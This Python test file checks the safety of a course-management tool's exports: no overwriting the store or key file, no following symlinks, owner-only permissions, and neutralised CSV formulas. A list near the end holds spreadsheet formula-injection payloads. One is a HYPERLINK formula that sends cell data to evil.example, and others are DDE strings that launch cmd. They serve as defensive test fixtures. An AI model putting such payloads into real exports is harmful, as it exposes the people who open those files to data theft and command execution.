"""Files the command line writes (`audit --csv`, `calendar --ics`, `compliance --html`,
`verify --seal`, `--log-file`): never over the store or its key (even with `--force`,
however the path is spelt), never through a symbolic link, never over an existing file
without `--force`; CSV cells never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from coursebook.adapters.entrypoints.exports import audit_csv, neutralise
from coursebook.bootstrap import is_postgres, key_file_for
from tests.e2e.test_cli import COURSE, coursebook, jsonl, store  # noqa: F401 (fixture)

EXPORTS = [  # (arguments before FILE, the option writing FILE)
    (["audit", "--csv"], "--csv"),
    (["calendar", "--ics"], "--ics"),
    (["compliance", "--html"], "--html"),
    (["verify", "--seal"], "--seal"),
]
IDS = [option for _, option in EXPORTS]


def own_files(target: str) -> list[Path]:
    """The store's files an export must never touch."""
    files = [key_file_for(target)]
    if not is_postgres(target):
        files.append(Path(target))
    return files


def still_whole(target: str, keys: dict[Path, bytes]) -> None:
    for path, content in keys.items():
        assert path.read_bytes() == content, f"{path} was changed"
    if not is_postgres(target):
        assert Path(target).read_bytes().startswith(b"SQLite format 3\0")
    assert coursebook("verify", db=target).returncode == 0
    assert coursebook("course", "show", "C1", db=target).returncode == 0


def key_bytes(target: str) -> dict[Path, bytes]:
    key = key_file_for(target)
    return {key: key.read_bytes()}


@pytest.mark.parametrize(("args", "option"), EXPORTS, ids=IDS)
@pytest.mark.parametrize("force", [False, True], ids=["", "force"])
def test_an_export_never_writes_over_the_store_or_its_key(
        store: str, args: list[str], option: str, force: bool) -> None:  # noqa: F811
    keys = key_bytes(store)
    for path in own_files(store):
        result = coursebook(*args, str(path), *(["--force"] if force else []), db=store)
        assert result.returncode == 2, result
        assert f"{option}: {path} is the store or its key file".encode() in result.stderr
    still_whole(store, keys)


def test_the_store_is_recognised_however_its_path_is_spelt(
        store: str, tmp_path: Path) -> None:  # noqa: F811
    keys = key_bytes(store)
    key = key_file_for(store)
    (tmp_path / "sub").mkdir()
    (tmp_path / "linked-dir").symlink_to(key.parent)
    hard = tmp_path / "hard.key"
    os.link(key, hard)
    spellings = [f"{tmp_path}/sub/../../{tmp_path.name}/linked-dir/{key.name}", str(hard),
                 os.path.relpath(key)]
    if not is_postgres(store):
        spellings += [f"{store}-wal", f"{store}-shm", os.path.relpath(store)]
    for spelling in spellings:
        result = coursebook("audit", "--csv", spelling, "--force", db=store)
        assert result.returncode == 2, (spelling, result)
        assert b"is the store or its key file" in result.stderr
    still_whole(store, keys)


@pytest.mark.parametrize(("args", "option"), EXPORTS, ids=IDS)
def test_an_export_never_follows_a_symbolic_link(
        store: str, tmp_path: Path, args: list[str], option: str) -> None:  # noqa: F811
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    for link, points_to in [(tmp_path / "link", victim), (tmp_path / "dangling",
                                                          tmp_path / "nowhere")]:
        link.symlink_to(points_to)
        for force in ([], ["--force"]):
            result = coursebook(*args, str(link), *force, db=store)
            assert result.returncode == 2, result
            assert f"{option}: {link} is a symbolic link".encode() in result.stderr
        assert link.is_symlink()
    assert victim.read_text() == "precious"
    assert not (tmp_path / "nowhere").exists()


@pytest.mark.parametrize(("args", "option"), EXPORTS, ids=IDS)
def test_an_existing_file_is_replaced_only_with_force(
        store: str, tmp_path: Path, args: list[str], option: str) -> None:  # noqa: F811
    out = tmp_path / "out"
    out.write_text("earlier export")
    refused = coursebook(*args, str(out), db=store)
    assert refused.returncode == 2, refused
    assert f"{option}: {out} already exists".encode() in refused.stderr
    assert b"--force" in refused.stderr
    assert out.read_text() == "earlier export"
    replaced = coursebook(*args, str(out), "--force", db=store)
    assert replaced.returncode == 0, replaced
    assert out.read_text() != "earlier export"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no partial file left


@pytest.mark.parametrize(("args", "option"), EXPORTS, ids=IDS)
def test_a_new_export_is_owner_only(store: str, tmp_path: Path, args: list[str],  # noqa: F811
                                    option: str) -> None:
    out = tmp_path / "new"
    result = coursebook(*args, str(out), db=store)
    assert result.returncode == 0, result
    assert out.stat().st_size > 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_a_directory_or_device_is_not_an_export(store: str, tmp_path: Path) -> None:  # noqa: F811
    for path in (str(tmp_path), "/dev/null"):
        result = coursebook("audit", "--csv", path, "--force", db=store)
        assert result.returncode == 2, result


def test_the_log_file_is_never_the_store_nor_a_link(store: str, tmp_path: Path) -> None:  # noqa: F811
    keys = key_bytes(store)
    link = tmp_path / "log-link"
    link.symlink_to(tmp_path / "real.log")
    for path in [*own_files(store), link]:
        result = coursebook("--log-file", str(path), "course", "show", "C1", db=store)
        assert result.returncode == 2, result
        assert b"--log-file" in result.stderr
    assert not (tmp_path / "real.log").exists()
    log = tmp_path / "ok.log"
    log.write_text("earlier line\n")
    result = coursebook("--log-file", str(log), "course", "show", "C1", db=store)
    assert result.returncode == 0, result
    assert log.read_text().startswith("earlier line\n")  # appended to
    still_whole(store, keys)


# -- CSV cells that would run as formulas --------------------------------------------------
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_starting_a_formula_is_written_as_text(text: str) -> None:
    assert neutralise(text) == "'" + text
    entry = {"position": 1, "recorded_at": "t", "at": "t", "subject": text, "event": "E",
             "actor": text, "reason": text, "detail": None}
    [header, row] = list(csv.reader(io.StringIO(audit_csv([entry]), newline="")))
    for column in ("subject", "actor", "reason"):
        assert row[header.index(column)] == "'" + text


@pytest.mark.parametrize("text", ["plain", "dr-ada", "a=b", "2026-01-01", "", "'quoted"])
def test_other_cells_are_written_as_they_are(text: str) -> None:
    assert neutralise(text) == text
    assert neutralise(7) == 7


def test_free_text_reasons_reach_the_csv_neutralised_and_excel_gets_a_bom(
        store: str, tmp_path: Path) -> None:  # noqa: F811
    source = tmp_path / "pause.jsonl"
    source.write_bytes(jsonl(
        {"command": "pause_course", "command_id": "e2e-csv-1", "at": "2024-03-06T10:00:00Z",
         "actor": "dr-ada", "course_id": "C1", "reason": FORMULAS[0]},
        {"command": "resume_course", "command_id": "e2e-csv-2", "at": "2024-03-07T10:00:00Z",
         "actor": "dr-ada", "course_id": "C1", "reason": FORMULAS[3]}))
    assert coursebook("import", str(source), db=store).returncode == 0
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
    assert coursebook("audit", "--csv", str(plain), db=store).returncode == 0
    assert coursebook("audit", "--csv", str(excel), "--excel", db=store).returncode == 0
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
    assert excel.read_bytes()[3:] == plain.read_bytes()
    rows = list(csv.DictReader(io.StringIO(plain.read_text(encoding="utf-8"), newline="")))
    reasons = [row["reason"] for row in rows if row["reason"]]
    assert "'" + FORMULAS[0] in reasons
    assert "'" + FORMULAS[3] in reasons
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in rows for cell in row.values())
    # the JSON document keeps the reason as it was recorded
    document = json.loads(coursebook("--format", "json", "audit", db=store).stdout)
    assert FORMULAS[0] in [entry["reason"] for entry in document]


def test_the_demo_page_is_never_written_through_a_symbolic_link(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / "clinic.html").symlink_to(victim)
    result = coursebook("demo", db=tmp_path / "clinic.db")
    assert result.returncode == 2, result
    assert b"is a symbolic link" in result.stderr
    assert victim.read_text() == "precious"
